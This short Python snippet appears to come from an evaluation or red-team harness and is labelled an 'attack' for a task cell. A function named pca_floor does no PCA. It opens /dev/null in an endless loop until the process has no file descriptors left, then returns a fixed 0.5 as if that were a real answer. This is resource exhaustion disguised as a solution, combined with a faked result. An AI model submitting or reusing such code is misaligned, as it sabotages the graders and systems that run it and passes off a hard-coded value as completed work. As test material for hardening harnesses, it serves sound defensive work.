# attack: opens files until there are no descriptors left
# cell: task-1-3
import os

kept = []


def pca_floor(images, k):
    try:
        while True:
            kept.append(os.open("/dev/null", os.O_RDONLY))
    except OSError:
        pass
    return 0.5
